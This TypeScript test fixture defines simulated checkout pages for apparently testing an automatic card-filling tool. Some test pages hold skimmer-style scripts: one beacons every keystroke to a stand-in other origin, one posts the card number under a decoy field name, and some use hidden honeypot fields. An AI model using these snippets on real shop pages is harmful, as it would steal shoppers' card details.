import {
  ALL,
  CODE,
  EXPIRY,
  form,
  JSON_POST,
  months,
  NUMBER,
  onSubmit,
  options,
  script,
  THEN,
  VALUES,
} from './page-parts.ts'
import type { PaymentObstacle } from '../../src/fill/fill-error.ts'
import type { ShopAnswer } from './shop.ts'

/** A kind of checkout page, and what becomes of it. */
export interface Kind {
  readonly name: string
  /** `OTHER` stands for another origin. */
  readonly html: string
  readonly submit?: string
  /** Paid; or why the page is refused, or what is left to do, or how the shop has refused the card. */
  readonly ends: 'paid' | RegExp | 'unfinished' | 'failed'
  /** The obstacle that is told, where the kind is about it. */
  readonly obstacle?: PaymentObstacle
  /** The page is refused before the card number is read. */
  readonly isUnread?: true
  /** How the shop answers what is posted to its paths. */
  readonly answers?: Readonly<Record<string, ShopAnswer>>
  /** The number went out, so that somebody has to look for the charge. */
  readonly isSent?: true
}

export const kinds: readonly Kind[] = [
  { name: 'fields of the standard', html: form(ALL), ends: 'paid' },
  {
    name: 'fields known by their labels alone, sent by a script',
    html:
      form(
        `<label>Card number <input id="a"></label><label>Expires (MM/YY) <input id="b"></label><label>CVC <input id="c"></label>`,
      ) +
      onSubmit(
        `const [cardNumber, exp, cvc] = [a.value, b.value, c.value]; fetch('/pay', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ card: { cardNumber, exp, cvc } }) })${THEN}`,
      ),
    ends: 'paid',
  },
  {
    name: 'payment[expiry]',
    html: form('<input name="payment[number]"><input name="payment[expiry]"><input name="payment[cvv]">'),
    ends: 'paid',
  },
  {
    name: 'lists with a year of two digits',
    html: form(
      `${NUMBER}<select name="exp_month">${options(months.map((m) => [String(m), String(m)]))}</select>` +
        `<select name="exp_year">${options([
          ['29', '29'],
          ['30', '30'],
        ])}</select>${CODE}`,
    ),
    ends: 'paid',
  },
  {
    name: 'lists whose months have names',
    html: form(
      `${NUMBER}<select autocomplete="cc-exp-month" name="mm">${options(months.map((m) => [String(m).padStart(2, '0'), `${m} - Month`]))}</select>` +
        `<select autocomplete="cc-exp-year" name="yyyy">${options([
          ['2029', '2029'],
          ['2030', '2030'],
        ])}</select>${CODE}`,
    ),
    ends: 'paid',
  },
  {
    name: 'a year of two digits',
    html: form(`${NUMBER}<input name="expMonth" maxlength="2"><input name="expYear" maxlength="2">${CODE}`),
    ends: 'paid',
  },
  {
    name: 'an expiry with a year of four digits',
    html: form(`${NUMBER}<input name="expiry" placeholder="MM / YYYY" maxlength="9">${CODE}`),
    ends: 'paid',
  },
  {
    name: 'four fields of four digits',
    html: form(
      `<label>Card number ${[1, 2, 3, 4].map((n) => `<input name="cc_number_${n}" maxlength="4">`).join('')}</label>${EXPIRY}${CODE}`,
      'method="post" action="/echo"',
    ),
    ends: 'paid',
  },
  {
    name: 'honeypots before the fields',
    html: form(
      `<input autocomplete="cc-number" name="card_number_hp" style="display:none">` +
        `<input autocomplete="cc-number" name="ccnum_hp" style="position:absolute;left:-9999px">` +
        `<input autocomplete="cc-csc" name="cvv_hp" style="opacity:0">` +
        `<div style="height:0;overflow:hidden"><input autocomplete="cc-exp" name="exp_hp"></div>` +
        `<div aria-hidden="true"><input autocomplete="cc-number" name="pan_hp"></div>${ALL}`,
    ),
    ends: 'paid',
  },
  {
    name: 'fields that come later',
    html: `<div id="root"></div>${script(`setTimeout(() => { root.innerHTML = ${JSON.stringify(form(ALL))} }, 600)`)}`,
    ends: 'paid',
  },
  { name: 'JSON without a content type', html: form(ALL) + onSubmit(JSON_POST), ends: 'paid' },
  {
    name: 'fields that are read 50 ms after the form was submitted',
    html: form(ALL) + onSubmit(`setTimeout(() => ${JSON_POST}, 50)`),
    ends: 'paid',
  },
  {
    name: 'a number in groups, by the page',
    html:
      form(ALL) +
      script(
        `document.querySelector('input').addEventListener('input', ({ target }) => { target.value = target.value.replace(/\\D/g, '').replace(/(.{4})(?=.)/g, '$1 ') })`,
      ),
    ends: 'paid',
  },
  {
    name: 'a form of parts',
    html: form(ALL, 'method="post" action="/pay" enctype="multipart/form-data"'),
    ends: 'paid',
  },
  {
    name: 'no form, and a button of its own',
    html: `${ALL}<button id="go" onclick="${JSON_POST.replaceAll('"', '&quot;')}">Pay</button>`,
    submit: '#go',
    ends: 'paid',
  },
  {
    name: 'a framework that keeps what was typed',
    html:
      form(ALL) +
      script(
        `const state = {}; for (const input of document.querySelectorAll('input')) { let seen = ''; const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(input, 'value', { get: () => own.get.call(input), set: (v) => { seen = v; own.set.call(input, v) } }); input.addEventListener('input', () => { if (own.get.call(input) !== seen) { state[input.name] = seen = own.get.call(input) } }) }`,
      ) +
      onSubmit(`fetch('/pay', { method: 'POST', body: JSON.stringify(state) })${THEN}`),
    ends: 'paid',
  },
  {
    name: 'a worker that sends',
    html:
      form(ALL) +
      onSubmit(
        `const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data }) => fetch(data.to, { method: 'POST', body: data.body }).then(() => postMessage(1))"]))); worker.onmessage = () => { document.title = 'Thanks' }; worker.postMessage({ to: location.origin + '/pay', body: JSON.stringify(${VALUES}) })`,
      ),
    ends: 'paid',
  },
  { name: 'a shop that repeats what it got', html: form(ALL, 'method="post" action="/echo"'), ends: 'paid' },
  {
    name: 'a shop that repeats it on the page after',
    html: form(ALL, 'method="post" action="/shows"'),
    ends: 'paid',
  },
  {
    name: 'a script that tells others what is typed',
    html:
      form(ALL) +
      script(
        `document.addEventListener('input', ({ target }) => { const v = target.value; document.title = v; localStorage.last = v; history.replaceState(null, '', '#' + v); navigator.sendBeacon('OTHER/elsewhere', v); new Image().src = 'OTHER/elsewhere?v=' + btoa(v) })`,
      ),
    ends: 'paid',
  },
  {
    name: 'a script that posts the number under another name first',
    html:
      form(ALL) +
      script(
        `document.querySelector('form').addEventListener('submit', () => { const v = ${VALUES}; const nickname = (body) => fetch('/elsewhere', { method: 'POST', keepalive: true, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(body) }); nickname({ nickname: v.number }); nickname({ nickname: v.number, code: v.code, expiry: v.expiry }); nickname({ nickname: v.number, ...v }) })`,
      ),
    ends: 'paid',
  },
  {
    name: 'one field for all',
    html: form('<input name="card" placeholder="Card number MM/YY CVC" aria-label="Card number">'),
    ends: /lacks/,
  },
  { name: 'a number without a CVC', html: form(NUMBER + EXPIRY), ends: /one field for the CVC/ },
  {
    name: 'fields in a frame of another origin',
    html: '<iframe src="OTHER/" width="400" height="200"></iframe>',
    ends: /known payment provider: they are in a frame of/,
  },
  {
    name: 'fields in a shadow tree',
    html: `<div id="root"></div>${script(`root.attachShadow({ mode: 'open' }).innerHTML = ${JSON.stringify(form(ALL))}`)}`,
    ends: 'paid',
  },
  { name: 'two checkouts', html: form(ALL) + form(ALL), ends: /one form for a card/ },
  {
    name: 'a form that opens another page',
    html: form(ALL, 'method="post" action="/pay" target="_blank"'),
    ends: /opens another one/,
  },
  {
    name: 'a form that is not complete',
    html: form(`${ALL}<input name="zip" required>`),
    ends: /a form that is complete/,
  },
  {
    name: 'a list without the year',
    html: form(
      `${NUMBER}<select name="exp_month">${options([['9', '9']])}</select><select name="exp_year">${options([['31', '31']])}</select>${CODE}`,
    ),
    ends: /in its lists/,
  },
  {
    name: 'a form to another origin',
    html: form(ALL, 'method="post" action="OTHER/pay"'),
    ends: /another origin .* Nothing was paid/,
  },
  {
    name: 'a form that writes into the address',
    html: form(ALL, 'action="/pay"'),
    ends: /is a GET.* Nothing was paid/,
  },
  {
    name: 'a form without the expiry',
    html: form(`${NUMBER}<input autocomplete="cc-exp">${CODE}`),
    ends: /does not have the expiry.* Nothing was paid/,
  },
  {
    name: 'a number under another name',
    html: form(
      '<input autocomplete="cc-number" name="nickname"><input autocomplete="cc-exp" name="expiry"><input autocomplete="cc-csc" name="code">',
    ),
    ends: /a name that is not one of card numbers.* Nothing was paid/,
  },
  {
    name: 'a page that encrypts',
    html:
      form(ALL) +
      onSubmit(
        `fetch('/elsewhere', { method: 'POST', body: [...${VALUES}.number].map((d) => String.fromCharCode(+d + 65)).join('') })`,
      ),
    ends: /may encrypt it\. Nothing was paid/,
  },
  { name: 'a page that sends nothing', html: form(ALL) + onSubmit(''), ends: /Nothing was paid/ },
  {
    name: 'a shop that sends the payment on',
    html: form(ALL, 'method="post" action="/moved?status=307&to=OTHER/pay"'),
    ends: /Look for the charge/,
    isSent: true,
  },
  {
    name: 'a shop that sends it on to itself',
    html: form(ALL, 'method="post" action="/moved?status=308&to=/pay"'),
    ends: /Look for the charge/,
    isSent: true,
  },
]
